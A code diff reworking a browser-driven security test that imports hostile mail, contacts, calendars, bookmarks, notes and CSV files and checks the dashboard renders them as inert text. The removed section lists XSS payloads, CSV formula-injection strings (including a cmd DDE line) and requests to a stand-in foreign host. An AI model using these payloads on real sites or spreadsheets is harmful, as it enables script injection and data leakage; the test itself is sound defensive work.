@@ -1,197 +1,223 @@
-// SECURITY row 17: what others wrote, brought in by real importers, is text on every page that shows it, in a real browser.
+// SECURITY row 17: what others wrote, brought in by every importer, is text on every page that shows it, in a real browser.
 import { mkdirSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
-import type { BrowserContext } from "playwright-core";
+import type { BrowserContext, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { zipOf } from "../../src/collect/archive/archives.fixture.ts";
+import { IMPORTERS } from "../../src/collect/importers/index.ts";
 import { openParser } from "../../src/collect/parser-thread.ts";
 import { runImport } from "../../src/collect/run.ts";
 import type { ImportJob } from "../../src/contract/import.ts";
-import { recordUrl } from "../../src/surfaces/mcp/record-url.ts";
+import { OWNER_PAGES } from "../../src/surfaces/web/dashboard/pages.ts";
 import { newSetupLink } from "../../src/surfaces/web/sign-in.ts";
 import { HOME_OWNER, type Loose, type TestServer, testServer } from "../harness.ts";
 import { ownerBrowser, setUp } from "../oauth/owner-browser.ts";
+import { asDetails, ask, discover, register } from "../oauth/world.ts";
 import { startBrowser, type TestBrowser } from "./browser.ts";
-
-/** Each would set `__hit`, ask a foreign host, or run in a spreadsheet. */
-const HOSTILE = [
-  "<script>window.__hit=1</script>",
-  `"><img src=x onerror="window.__hit=1">`,
-  "'-(window.__hit=1)-' autofocus onfocus='window.__hit=1",
-  "</pre></dd></title></textarea></script><svg onload=window.__hit=1>",
-  `<svg><animate onbegin="window.__hit=1" attributeName=x dur=1s></svg>`,
-  "javascript:window.__hit=1//",
-  `<a href="java&#9;script:window.__hit=1" target=_blank>a link</a>`,
-  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
-  "<style>@import url(https://foreign.example/__hit.css);body{background:url(https://foreign.example/__hit)}</style>",
-  `<div style="position:fixed;inset:0;background:url(//foreign.example/__hit)">over all</div>`,
-  `<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=window.__hit=1>">`,
-  `<meta http-equiv=refresh content="0;url=https://foreign.example/__hit"><base href=https://foreign.example/__hit/>`,
-  "<form action=https://foreign.example/__hit><button autofocus onfocus=window.__hit=1>",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill in.
-  "{{constructor.constructor('window.__hit=1')()}} ${window.__hit=1} <%= window.__hit=1 %>",
-  "\u202e<\u200bscript>window.__hit=1</script> \uff1cscript\uff1ewindow.__hit=1\uff1c/script\uff1e",
-  "&lt;script&gt;window.__hit=1&lt;/script&gt;&#60;img src=x onerror=window.__hit=1&#62;",
-  `=HYPERLINK("https://foreign.example/__hit","x")`,
-  "+cmd|' /C __hit'!A0",
-  "-2+3+__hit",
-  "@SUM(__hit)",
-];
-/** In a file's name, and so in provenance and labels too. */
-const NAME = "<img src=x onerror=window.__hit=1>";
-
-const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
-const html = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
-const escaped = (text: string): string => text.replace(/[\\;,]/g, "\\$&");
-const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
-const mail = (text: string, index: number, type: string): string =>
-  [
-    `From: ${word(text)} <mallory@foreign.example>`,
-    "To: nora@example.org",
-    `Subject: ${word(text)}`,
-    `Message-ID: <${index}.${type}@foreign.example>`,
-    "Date: Fri, 31 May 2024 09:00:00 +0000",
-    "MIME-Version: 1.0",
-    `Content-Type: text/${type}; charset=utf-8`,
-    "Content-Transfer-Encoding: base64",
-    "",
-    Buffer.from(type === "html" ? `<p>Hello</p>${text}<p>Bye</p>` : text).toString("base64"),
-    "",
-  ].join("\r\n");
-
-/** What is given to each importer, and the field that must say what was written, letter by letter. */
-const SOURCES: Record<string, { field: string; files: Record<string, string> }> = {
-  messages: {
-    field: "subject",
-    files: Object.fromEntries(
-      HOSTILE.map((text, index) => [`mail/${NAME}${index}.eml`, mail(text, index, index % 4 === 3 ? "plain" : "html")]),
-    ),
-  },
-  contacts: {
-    field: "note",
-    files: {
-      [`${NAME}.vcf`]: HOSTILE.map((text, index) => {
-        const value = escaped(text);
-        return `BEGIN:VCARD\r\nVERSION:4.0\r\nUID:c${index}\r\nFN:${value}\r\nNOTE:${value}\r\nORG:${value}\r\nURL:${value}\r\nEND:VCARD\r\n`;
-      }).join(""),
-    },
-  },
-  events: {
-    field: "title",
-    files: {
-      [`${NAME}.ics`]: `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n${HOSTILE.map((text, index) => {
-        const value = escaped(text);
-        return `BEGIN:VEVENT\r\nUID:e${index}\r\nDTSTAMP:20240531T090000Z\r\nDTSTART:20240531T090000Z\r\nSUMMARY:${value}\r\nDESCRIPTION:${value}\r\nLOCATION:${value}\r\nEND:VEVENT\r\n`;
-      }).join("")}END:VCALENDAR\r\n`,
-    },
-  },
-  bookmarks: {
-    field: "title",
-    files: {
-      [`${NAME}.html`]: `<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n${HOSTILE.map(
-        (text, index) =>
-          `<DT><H3>${html(text)}</H3>\n<DL><p>\n<DT><A HREF="https://foreign.example/${index}" ADD_DATE="1700000000">${html(text)}</A>\n</DL><p>\n`,
-      ).join("")}<DT><A HREF="javascript:window.__hit=1" ADD_DATE="1700000000">A bookmarklet</A>\n</DL><p>\n`,
-    },
-  },
-  notes: {
-    field: "body",
-    files: Object.fromEntries(
-      HOSTILE.map((text, index) => [
-        `vault/${NAME}${index}.md`,
-        `---\ntitle: ${JSON.stringify(text)}\ntags: [${JSON.stringify(text)}]\n---\n${text}`,
-      ]),
-    ),
-  },
-  table: {
-    field: "said",
-    files: {
-      "table.csv": `id,said,${quoted(NAME)}\n${HOSTILE.map((text) => `${quoted(text)},${quoted(text)},${quoted(text)}\n`).join("")}`,
-    },
-  },
-};
-
-/** In the page: what an attack would have to become to do anything. */
-const LOOK = `({
-  hit: "__hit" in window,
-  text: document.body.textContent,
-  handlers: [...document.querySelectorAll("*")].filter(({ attributes }) =>
-    [...attributes].some(({ name, value }) => name.startsWith("on") || /^\\s*java\\s*script:/i.test(value)),
-  ).length,
-  planted: document.querySelectorAll("iframe, math, base, object, embed, meta[http-equiv], [src*='__hit']").length,
-})`;
+import { flat, HOSTILE, LOOK, NAME, type Seen, WATCH_POLICY } from "./hostile/corpus.ts";
+import { removeHostileDisks } from "./hostile/disk.ts";
+import { EXPORTS } from "./hostile/exports.ts";
+import { CONSENT, type HostileWorld, type Look, labelOf, PAGES, SHOW_NOTHING, type Stream } from "./hostile/pages.ts";
 
 let server: TestServer;
 let browser: TestBrowser;
 let context: BrowserContext;
-const jobs = new Map<string, ImportJob>();
+let world: HostileWorld;
+/** What each importer brought in. */
+const brought = new Map<string, Stream[]>();
+const OWNERS = new Set(OWNER_PAGES.map(({ path }) => path));
 
 beforeAll(async () => {
   [server, browser] = await Promise.all([testServer(), startBrowser()]);
-  for (const [stream, { files }] of Object.entries(SOURCES)) {
-    const given = join(server.home, "given", stream);
-    for (const [name, content] of Object.entries(files)) {
-      mkdirSync(dirname(join(given, name)), { recursive: true });
-      writeFileSync(join(given, name), content);
-    }
-    const parser = openParser({ home: server.home, given: [given] });
-    try {
-      for (const group of (await parser.plan({})).groups) {
-        const options = { host: server.host, credential: HOME_OWNER, parser, answers: {}, as: `${NAME} ${stream}` };
-        jobs.set(stream, await runImport(options, group));
-      }
-    } finally {
-      await parser.close();
-    }
-  }
+  await importAll();
   const owner = ownerBrowser(server.url);
   await setUp(owner, await newSetupLink(server.host, server.url));
+  world = await hostileWorld();
   context = await browser.context();
+  await context.addInitScript(WATCH_POLICY);
   await context.addCookies([...owner.cookies].map(([name, value]) => ({ name, value, url: server.url })));
+  tabs = await Promise.all(Array.from({ length: TABS }, newTab));
 }, 60_000);
 afterAll(async () => {
   await browser?.close();
   await server?.close();
+  removeHostileDisks();
 });
 
-const recordsOf = (stream: string): Promise<Loose[]> =>
-  server.all(`/v1/streams/${stream}/records`, {
-    query: { connection_id: jobs.get(stream)!.connection_id, limit: 100 },
+/** An app with a hostile name, that has a grant over something of each connection and asks for more. */
+async function hostileWorld(): Promise<HostileWorld> {
+  const as = await discover(server.url);
+  const app = await register({ as }, { client_name: NAME });
+  const grants = new Map<string, { token: string; grantId: string; clientId: string }>();
+  for (const { connection, name } of [...brought.values()].flat()) {
+    const { connection_id } = connection;
+    if (grants.has(connection_id)) continue;
+    const given = await server.grant({ client_name: NAME, selections: [{ connection_id, stream: name }] });
+    const { grant } = (await server.get(`/v1/grants/${given.grant_id}`)).body;
+    grants.set(connection_id, {
+      token: given.access_token,
+      grantId: given.grant_id,
+      clientId: grant.client.client_id,
+    });
+  }
+  return {
+    server,
+    authorize: async (details) => (await ask({ as }, app, asDetails(...details))).href,
+    grant: (connectionId) => grants.get(connectionId)!,
+  };
+}
+
+/** All exports in one go, as if the owner had dropped a folder of downloads. */
+async function importAll(): Promise<void> {
+  const given = Object.entries(EXPORTS).map(([name, { files, folder = `${NAME} ${name}` }]) => {
+    const place = join(server.home, "given", folder);
+    for (const [path, content] of Object.entries(files)) {
+      mkdirSync(dirname(join(place, path)), { recursive: true });
+      writeFileSync(join(place, path), content);
+    }
+    return place;
   });
+  const answers = Object.assign({}, ...Object.values(EXPORTS).map((one) => one.answers ?? {}));
+  const parser = openParser({ home: server.home, given });
+  try {
+    const { groups, left } = await parser.plan(answers);
+    expect(left).toEqual([]);
+    const jobs: ImportJob[] = [];
+    for (const group of groups) {
+      const named = EXPORTS[group.importer]!.accounts !== undefined ? {} : { as: `${NAME} ${group.importer}` };
+      const job = await runImport({ host: server.host, credential: HOME_OWNER, parser, answers, ...named }, group);
+      const { error, counts } = job.progress;
+      expect([group.importer, job.status, error, counts.failed]).toEqual([group.importer, "succeeded", undefined, 0]);
+      jobs.push(job);
+    }
+    for (const [connectionId, own] of Map.groupBy(jobs, ({ connection_id }) => connection_id)) {
+      const { importer } = own[0]!;
+      brought.set(importer, [...(brought.get(importer) ?? []), ...(await streamsOf(connectionId, own))]);
+    }
+  } finally {
+    await parser.close();
+  }
+}
+
+async function streamsOf(connection_id: string, jobs: readonly ImportJob[]): Promise<Stream[]> {
+  const connections = await server.all("/v1/connections");
+  const connection = connections.find((one) => one.connection_id === connection_id);
+  const all = await server.all("/v1/streams", { query: { connection_id } });
+  return Promise.all(
+    all.map(async ({ name }) => ({
+      connection,
+      importIds: jobs.map(({ import_id }) => import_id),
+      name,
+      metadata: (await server.get(`/v1/streams/${name}`, { query: { connection_id } })).body,
+      records: await server.all(`/v1/streams/${name}/records`, { query: { connection_id, limit: 100 } }),
+    })),
+  );
+}
+
+/** Opened once, side by side: a tab of its own for each page would take longer than all pages together. */
+const TABS = 2;
+let tabs: Page[];
+/** What happened in them; nothing may. */
+let wrong: string[] = [];
+async function newTab(): Promise<Page> {
+  const page = await context.newPage();
+  page.on("dialog", (dialog) => {
+    wrong.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on("console", (message) => {
+    if (message.type() === "error" || message.type() === "warning") wrong.push(message.text());
+  });
+  page.on("pageerror", (error) => wrong.push(String(error)));
+  page.on("popup", (popup) => wrong.push(`window ${popup.url()}`));
+  page.on("download", (download) => wrong.push(`download ${download.url()}`));
+  page.on("request", (request) => {
+    if (new URL(request.url()).origin !== server.url) wrong.push(`request ${request.url()}`);
+  });
+  return page;
+}
+
+/** What was read on each; lists of everything are opened once for all importers. */
+const read = new Map<string, string>();
+
+async function look(page: Page, { address, says }: Look): Promise<void> {
+  const text = read.get(address) ?? (await opened(page, address));
+  read.set(address, text);
+  for (const said of says) {
+    const options = [said].flat().map(flat);
+    if (!options.some((option) => text.includes(option))) expect(text, address).toContain(options[0]);
+  }
+}
+
+async function opened(page: Page, address: string): Promise<string> {
+  const answer = await page.goto(new URL(address, server.url).href);
+  const seen = (await page.evaluate(LOOK)) as Seen;
+  expect([answer?.status(), new URL(page.url()).origin], address).toEqual([200, server.url]);
+  expect([seen.hit, seen.violations, seen.handlers, seen.planted], address).toEqual([false, [], 0, 0]);
+  return flat(seen.text);
+}
 
 describe("P-05 SECURITY row 17: stored content attacks nobody", () => {
-  test.each(Object.entries(SOURCES))("row 17 %s: every record's page shows it as text", async (stream, { field }) => {
-    const records = await recordsOf(stream);
-    expect(records.map(({ data }) => String(data[field]).trim())).toEqual(expect.arrayContaining(HOSTILE));
-    const page = await context.newPage();
-    const wrong: string[] = [];
-    page.on("dialog", (dialog) => {
-      wrong.push(`dialog ${dialog.message()}`);
-      void dialog.dismiss();
+  test("row 17 every importer brought its hostile export in", () => {
+    expect(Object.keys(EXPORTS).sort()).toEqual(IMPORTERS.map(({ name }) => name).sort());
+    expect([...brought.keys()].sort()).toEqual(Object.keys(EXPORTS).sort());
+  });
+
+  test("row 17 every page of the owner is looked at, or shows nothing stored", () => {
+    expect([...OWNERS].filter((path) => PAGES[path] === undefined && !SHOW_NOTHING.includes(path))).toEqual([]);
+  });
+
+  const shown = Object.keys(PAGES).filter((path) => path === CONSENT || OWNERS.has(path));
+  describe.each(Object.entries(EXPORTS))("%s", (name, { whole: [wholeStream, field], accounts, tame }) => {
+    test("row 17 keeps every text of the corpus letter by letter", () => {
+      const records = brought.get(name)!.flatMap((stream) => (stream.name === wholeStream ? stream.records : []));
+      expect(records.map(({ data }) => String(data[field]).trim())).toEqual(expect.arrayContaining([...HOSTILE]));
     });
-    page.on("console", (message) => {
-      if (message.type() === "error" || message.type() === "warning") wrong.push(message.text());
-    });
-    page.on("pageerror", (error) => wrong.push(String(error)));
-    page.on("request", (request) => {
-      if (new URL(request.url()).origin !== server.url) wrong.push(`request ${request.url()}`);
-    });
-    for (const { id, connection_id, data } of records) {
-      const address = recordUrl(server.url, { connection_id, stream, id });
-      const answer = await page.goto(address);
-      const seen = (await page.evaluate(LOOK)) as { hit: boolean; text: string; handlers: number; planted: number };
-      expect([answer?.status(), page.url()], address).toEqual([200, address]);
-      expect([seen.hit, seen.handlers, seen.planted], address).toEqual([false, 0, 0]);
-      for (const value of Object.values(data)) {
-        const shown = typeof value === "string" ? value : JSON.stringify(value, null, 2);
-        if (shown.includes("__hit")) expect(seen.text).toContain(shown);
+
+    test("row 17 holds an attack in every field of text, in keys, and in the connection's name", () => {
+      const hit = new Map<string, boolean>();
+      for (const { name: stream, metadata, records } of brought.get(name)!) {
+        for (const [own, schema] of Object.entries<Loose>(metadata.schema.properties)) {
+          const holds = records.some(({ data }) => JSON.stringify(data[own] ?? "").includes("__hit"));
+          if (isText(schema)) hit.set(`${stream}.${own}`, (hit.get(`${stream}.${own}`) ?? false) || holds);
+        }
       }
-    }
-    await page.close();
+      expect([...hit].flatMap(([own, holds]) => (holds ? [] : [own])).sort()).toEqual([...tame].sort());
+      const names = new Set(brought.get(name)!.map(labelOf));
+      expect([...names].sort()).toEqual(accounts === undefined ? [`${NAME} ${name}`] : [...accounts].sort());
+    });
+
+    test.each(shown)("row 17 on %s is text", async (path) => {
+      wrong = [];
+      const looks = await PAGES[path]!(brought.get(name)!, world);
+      await Promise.all(
+        tabs.map(async (tab) => {
+          for (let next = looks.pop(); next !== undefined; next = looks.pop()) await look(tab, next);
+        }),
+      );
+      expect(wrong).toEqual([]);
+    });
+  });
+
+  test("row 17 files that were sent and not yet imported are text in their plan", async () => {
+    wrong = [];
+    const items = ["tables", "whatsapp", "browser-history"].flatMap((name) =>
+      Object.entries(EXPORTS[name]!.files).map(([path, content]) => ({
+        name: `${NAME}/${name}/${path}`,
+        content: Buffer.from(content as string),
+      })),
+    );
+    const bytes = zipOf([...items, { name: `${NAME}.unknown`, content: NAME }]);
+    const made = await server.call("POST", "/v1/imports", { body: { name: `${NAME}.zip`, size: bytes.length } });
+    const headers = { Authorization: `Bearer ${server.owner}`, "Upload-Offset": "0" };
+    const sent = await fetch(server.url + made.body.upload_url, { method: "PATCH", headers, body: bytes });
+    expect(sent.status).toBe(204);
+    await look(tabs[0]!, { address: `/dashboard/import/${made.body.import_id}`, says: [NAME] });
     expect(wrong).toEqual([]);
   });
 
-  test("row 17 mail in HTML is kept as text, without its scripts and styles", async () => {
-    const records = await recordsOf("messages");
+  test("row 17 mail in HTML is kept as text, without its scripts and styles", () => {
+    const records = brought.get("mail")!.flatMap((stream) => stream.records);
     for (const text of [HOSTILE[0], HOSTILE[8]]) {
       const { data } = records.find((one) => one.data.subject === text)!;
       expect(data.body.trim()).toMatch(/^Hello\s+Bye$/);
@@ -199,19 +225,18 @@ describe("P-05 SECURITY row 17: stored content attacks nobody", () => {
   });
 
   test("row 17 the corpus does harm where it is not escaped", async () => {
-    const page = await context.newPage();
+    const page = tabs[0]!;
     for (const index of [0, 1, 3, 4, 7]) {
       await page.goto("about:blank");
       await page.setContent(HOSTILE[index]!);
       await page.waitForFunction("'__hit' in window");
     }
-    await page.close();
   });
 
   test("row 17 an export as CSV holds no cell that a spreadsheet would run", async () => {
-    const { connection_id } = jobs.get("table")!;
+    const { connection, name } = brought.get("tables")!.find(({ records }) => records.length === HOSTILE.length)!;
     const { status, text } = await server.get("/v1/export", {
-      query: { stream: "table", connection_id, format: "csv" },
+      query: { stream: name, connection_id: connection.connection_id, format: "csv" },
     });
     expect(status).toBe(200);
     for (const formula of HOSTILE.filter((one) => /^[=+\-@]/.test(one))) {
@@ -220,3 +245,10 @@ describe("P-05 SECURITY row 17: stored content attacks nobody", () => {
     expect(text).not.toMatch(/(?:^|,)"?[=+\-@]/m);
   });
 });
+
+/** Whether words can stand in it. */
+function isText({ type, enum: values, format }: Loose): boolean {
+  const types = [type].flat();
+  if (types.includes("array") || types.includes("object") || type === undefined) return true;
+  return types.includes("string") && values === undefined && format === undefined;
+}
